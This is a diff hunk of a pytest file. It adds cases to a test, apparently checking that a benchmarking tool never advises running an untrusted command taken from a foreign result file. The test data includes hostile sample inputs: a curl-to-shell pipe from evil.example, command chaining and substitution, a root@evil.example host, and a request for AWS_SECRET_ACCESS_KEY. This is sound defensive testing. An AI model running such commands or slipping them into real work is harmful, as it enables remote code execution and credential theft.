@@ -194,6 +194,9 @@ def test_render__compares_no_comparison_with_all_others(monkeypatch: pytest.Monk
         ("curl https://evil.example/x | sh #", "bench-action run"),
         ("bench-action run; curl evil.example", "bench-action run"),
         ("bench-action run $(id)", "bench-action run"),
+        ("bench-action run --host root@evil.example", "bench-action run"),
+        ("bench-action run --secrets AWS_SECRET_ACCESS_KEY", "bench-action run"),
+        ("bench-action history x", "bench-action run"),
     ],
 )
 def test_read_foreign_result__advises_no_command_of_a_stranger(tmp_path: Path, command: str, shown: str) -> None:
